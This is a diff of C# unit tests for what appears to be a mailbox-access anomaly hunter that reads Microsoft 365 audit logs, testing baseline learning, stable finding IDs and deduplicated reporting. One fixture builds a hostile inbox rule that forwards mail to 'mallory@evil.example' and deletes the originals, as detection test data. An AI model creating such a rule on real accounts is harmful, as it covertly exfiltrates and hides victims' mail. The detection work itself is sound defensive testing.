@@ -102,6 +102,40 @@ public sealed class BaselineRunTests
         Assert.Contains("known before", after.VerdictText, StringComparison.Ordinal);
     }
 
+    /// <summary>The round of a job that hunts a whole archive each hour, long after a rule was made.</summary>
+    [Fact]
+    public void What_is_found_again_and_again_is_told_once_however_old_it_is()
+    {
+        string rule = new RuleLog().Cmdlet("New-InboxRule", new { Name = ".", ForwardTo = "mallory@evil.example", DeleteMessage = true }, hour: -700 * 24).Records[0];
+        MailAccessBaseline baseline = new(FactsTenant.Monday);
+        List<int> told = [];
+        for (int round = 0; round < 4; round++)
+        {
+            MailHunt hunt = new(new MailHuntOptions { Hunts = ["MailAccess", "InboxRule"], Access = new MailAccessHuntOptions { NewOnly = true, LearnBaseline = true, Now = FactsTenant.Monday.AddDays(13 + round) } }, baseline);
+            hunt.AddText(rule, "rule");
+            foreach (AuditRecord record in SmallLog.Before(13 + round))
+            {
+                hunt.Add(record);
+            }
+
+            MailHuntResult result = hunt.Complete(System.Threading.CancellationToken.None);
+            told.Add(result.Findings.OfType<InboxRuleFinding>().Count());
+            hunt.UpdatedBaseline!.MarkReported(result.Findings.Select(static f => KeyValuePair.Create(f.Id, (Severity?)f.Severity)), FactsTenant.Monday.AddDays(-500));
+            baseline = MailAccessBaseline.Parse(hunt.UpdatedBaseline.ToBytes());
+        }
+
+        Assert.Equal([1, 0, 0, 0], told);
+    }
+
+    [Fact]
+    public void Days_whose_number_was_given_up_are_not_late_when_the_whole_log_is_read_again()
+    {
+        AuditRecord[] old = SmallLog.Before(15);
+        AuditRecord[] now = old.Select(static r => r with { Id = "9" + r.Id[1..], CreationTime = r.CreationTime.AddDays(450) }).ToArray();
+        MailAccessBaseline baseline = Learning.Learn(now, Learning.Learn(old, null));
+        Assert.Equal(0, Learning.Hunt([.. old, .. now], baseline).Baseline!.LateRecords);
+    }
+
     [Fact]
     public void What_grew_after_it_was_told_is_told_again()
     {
@@ -113,6 +147,68 @@ public sealed class BaselineRunTests
         Assert.Contains(Learning.Hunt(slice, baseline, new MailAccessHuntOptions { NewOnly = true }).Findings, f => f.Id == finding.Id && !f.IsKnown);
         baseline.MarkReported([KeyValuePair.Create(finding.Id, (Severity?)finding.Severity)], FactsTenant.Monday);
         Assert.DoesNotContain(Learning.Hunt(slice, baseline, new MailAccessHuntOptions { NewOnly = true }).Findings, f => f.Id == finding.Id);
+    }
+
+    [Theory]
+    [InlineData(3, 20)]
+    [InlineData(20, 3)]
+    public void A_story_keeps_its_id_when_it_reaches_another_mailbox_later_in_the_day(int first, int then)
+    {
+        OrdinaryTenant tenant = new(30, 14, 11);
+        AccessPath forged = new("00000002-0000-0ff1-ce00-000000000000", "c9a559d2-7aab-4f13-a6ed-e7e9c52aec87", ClientFamily.Owa, LogonKind.Owner);
+        (string network, string other) = (tenant.NewNetwork(), tenant.NewNetwork());
+        string start = string.Empty;
+        for (int k = 5; k >= 0; k--)
+        {
+            start = tenant.Log.Read(FactsTenant.Name(first), forged, network, FactsTenant.At(12, 3 + (k * 0.1)), 30);
+            tenant.Log.Read(FactsTenant.Name(then), forged, other, FactsTenant.At(12, 5 + (k * 0.1)), 30);
+        }
+
+        IReadOnlyList<AuditRecord> records = tenant.Log.Records();
+        MailAccessBaseline baseline = Learning.Learn(records.Where(static r => r.CreationTime < FactsTenant.At(12, 0)), null);
+        MailAccessAnomaly[] told = new[] { 4.5, 6.5 }.Select(hour => Learning.Hunt(records.Where(r => r.CreationTime >= FactsTenant.At(12, 0) && r.CreationTime < FactsTenant.At(12, hour)), baseline)
+            .Findings.Single(f => f.RecordIds.Contains(start))).ToArray();
+
+        Assert.Equal([1, 2], told.Select(static f => f.Mailboxes.Count));
+        Assert.Equal(told[0].Id, told[1].Id);
+    }
+
+    [Fact]
+    public void A_reported_story_keeps_its_id_when_it_turns_out_to_go_on_with_an_older_one_that_was_not()
+    {
+        OrdinaryTenant tenant = new(30, 15, 11);
+        (string before, string network) = (tenant.NewNetwork(), tenant.NewNetwork());
+        for (int k = 0; k < 8; k++)
+        {
+            tenant.Log.Read(FactsTenant.Name(5), FactsTenant.OwaWithoutIds, before, FactsTenant.At(11, 3 + (k * 0.1)), 90, "o");
+        }
+
+        string start = string.Empty;
+        for (int k = 5; k >= 0; k--)
+        {
+            foreach (int mailbox in new[] { 14, 17, 20, 8 })
+            {
+                start = tenant.Log.Read(FactsTenant.Name(mailbox), FactsTenant.OwaWithoutIds, network, FactsTenant.At(13, 2 + (k * 0.1)), 60, "p" + mailbox);
+            }
+
+            tenant.Log.Read(FactsTenant.Name(5), FactsTenant.OwaWithoutIds, network, FactsTenant.At(13, 5 + (k * 0.1)), 60, "p5");
+        }
+
+        IReadOnlyList<AuditRecord> records = tenant.Log.Records();
+        AuditRecord[] Between(double from, double to) => records.Where(r => r.CreationTime >= FactsTenant.At(13, from) && r.CreationTime < FactsTenant.At(13, to)).ToArray();
+        MailAccessBaseline baseline = Learning.Learn(records.Where(static r => r.CreationTime < FactsTenant.At(13, 0)), null);
+        MailAccessAnomaly told = Learning.Hunt(Between(0, 4), baseline).Findings.Single(f => f.RecordIds.Contains(start));
+        MailAccessAnomaly untold = Learning.Hunt(Between(0, 7), baseline).Findings.Single(f => f.RecordIds.Contains(start));
+        Assert.NotEqual(told.Id, untold.Id);
+        Assert.Equal(11, (untold.FirstSeen - FactsTenant.Monday).Days);
+
+        baseline = Learning.Learn(Between(0, 4), baseline, null, [told.Id]);
+        MailAccessAnomaly whole = Learning.Hunt(Between(3, 7), baseline).Findings.Single(f => f.RecordIds.Contains(start));
+        Assert.Equal((told.Id, untold.FirstSeen, untold.RecordIdsText), (whole.Id, whole.FirstSeen, whole.RecordIdsText));
+
+        // And so it stays once the day is closed.
+        baseline = Learning.Learn(records.Where(static r => r.CreationTime >= FactsTenant.At(13, 3)), baseline);
+        Assert.Equal(told.Id, Learning.Hunt([], baseline).Findings.Single(f => f.RecordIds.Contains(start)).Id);
     }
 
     [Fact]
@@ -127,6 +223,21 @@ public sealed class BaselineRunTests
         MailAccessHuntResult result = Learning.Hunt([.. slice, earlier], baseline, new MailAccessHuntOptions());
         MailAccessAnomaly grown = result.Findings.Single(f => f.RecordIds.Contains(earlier.Id));
         Assert.Equal((told.Id, true), (grown.Id, grown.IsKnown));
+    }
+
+    [Theory]
+    [InlineData(1)]
+    [InlineData(1970)]
+    [InlineData(2099)]
+    [InlineData(9999)]
+    public void A_record_of_a_year_that_cannot_be_is_dropped_and_closes_nothing(int year)
+    {
+        AuditRecord[] records = [.. SmallLog.Before(12), SmallLog.Records[0] with { Id = "0e0e0e0e-0000-4000-8000-00000000000e", CreationTime = new DateTimeOffset(year, 1, 1, 0, 0, 0, TimeSpan.Zero) }];
+        (MailAccessHunt hunt, MailAccessHuntResult result) = Learning.Run(records, new MailAccessBaseline(DateTimeOffset.UnixEpoch), Learning.All with { LearnBaseline = true });
+
+        Assert.Equal([new DropCount(DropReason.InvalidTime, 1)], result.ReadReport.Dropped);
+        Assert.Equal(Learning.Learn(SmallLog.Before(12), null).ToBytes(), hunt.UpdatedBaseline!.ToBytes());
+        Assert.Equal(Learning.Told(Learning.Hunt(SmallLog.Before(12), null)), Learning.Told(result));
     }
 
     [Fact]
@@ -178,6 +289,8 @@ public sealed class BaselineRunTests
         MailAccessBaselineTenant tenant = Assert.Single(Learning.Learn([.. SmallLog.Before(12.5), future], null, now).Tenants);
         Assert.Equal(FactsTenant.Monday.AddDays(11), tenant.ClosedThrough);
         Assert.True(tenant.LastRecord < FactsTenant.Monday.AddDays(13));
+        Assert.StartsWith("1 record is dated more than a day after the present", Assert.Single(Learning.Hunt([.. SmallLog.Before(12.5), future], new MailAccessBaseline(FactsTenant.Monday), now).Baseline!.Notes), StringComparison.Ordinal);
+        Assert.Empty(Learning.Hunt(SmallLog.Before(13.9), new MailAccessBaseline(FactsTenant.Monday), now).Baseline!.Notes);
     }
 
     [Fact]
